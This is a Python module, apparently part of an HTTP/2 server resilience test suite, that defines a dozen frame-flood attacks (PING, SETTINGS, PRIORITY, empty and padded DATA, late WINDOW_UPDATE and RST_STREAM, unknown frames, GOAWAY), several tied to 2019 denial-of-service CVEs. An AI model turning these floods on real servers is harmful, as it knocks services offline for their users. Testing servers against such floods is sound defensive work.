"""Frames that carry no call, as many as a connection takes."""

from __future__ import annotations

from collections.abc import Callable

from h2.settings import SettingCodes

from drills.attacks.attack import CALM, Attack, Attacker
from drills.orders import attack
from drills.wire import Wire

_DATA, _PRIORITY, _UNKNOWN = 0x0, 0x2, 0x42
_PADDED = 0x8


def flood_of(make: Callable[[Wire], bytes]) -> Callable[[Attacker], None]:
    """An attack that opens a stream, and then sends the same frame for as long as it can."""

    def run(attacker: Attacker) -> None:
        with attacker.connection() as wire:
            wire.open()
            wire.send(wire.request(1))
            wire.flood(make(wire))

    return run


def flood_of_closed(make: Callable[[Wire], bytes]) -> Callable[[Attacker], None]:
    """The same about a stream that has ended."""

    def run(attacker: Attacker) -> None:
        with attacker.connection() as wire:
            wire.open()
            wire.send(wire.call(1, attack()))
            wire.wait_for_answers(1)
            wire.flood(make(wire))

    return run


def settings_flood(wire: Wire) -> bytes:
    """A change of the windows of all streams."""
    return wire.make.settings({SettingCodes.INITIAL_WINDOW_SIZE: 70_000})


ATTACKS = [
    Attack("ping-flood", "PING (CVE-2019-9512)", flood_of(lambda wire: wire.make.ping()), (CALM,)),
    Attack(
        "ping-ack-flood", "answers to PINGs that nobody sent", flood_of(lambda wire: wire.make.ping(ack=True)), (CALM,)
    ),
    Attack("settings-flood", "SETTINGS (CVE-2019-9515)", flood_of(settings_flood), (CALM,)),
    Attack(
        "settings-ack-flood", "acknowledgements of SETTINGS", flood_of(lambda wire: wire.make.settings_ack()), (CALM,)
    ),
    Attack("empty-data", "DATA without data (CVE-2019-9518)", flood_of(lambda wire: wire.make.data(1)), (CALM,)),
    Attack(
        "padding",
        "DATA of nothing but padding (CVE-2019-9518)",
        flood_of(lambda wire: wire.make.raw(_DATA, _PADDED, 1, b"\0")),
        (CALM,),
    ),
    Attack(
        "priority-flood",
        "PRIORITY (CVE-2019-9513)",
        flood_of(lambda wire: wire.make.raw(_PRIORITY, 0, 1, b"\0\0\0\3\1")),
        (CALM,),
    ),
    Attack("window-update-flood", "WINDOW_UPDATE", flood_of(lambda wire: wire.make.window_update(0, 1)), (CALM,)),
    Attack(
        "late-window-update",
        "WINDOW_UPDATE of a stream that has ended",
        flood_of_closed(lambda wire: wire.make.window_update(1, 1)),
        (CALM,),
    ),
    Attack(
        "late-reset", "RST_STREAM of a stream that has ended", flood_of_closed(lambda wire: wire.make.reset(1)), (CALM,)
    ),
    Attack(
        "unknown-frames",
        "frames of a type that nobody knows",
        flood_of(lambda wire: wire.make.raw(_UNKNOWN, 0, 0, b"")),
        (CALM,),
    ),
    Attack("goaway-flood", "GOAWAY", flood_of(lambda wire: wire.make.goaway(0)), (CALM,)),
]
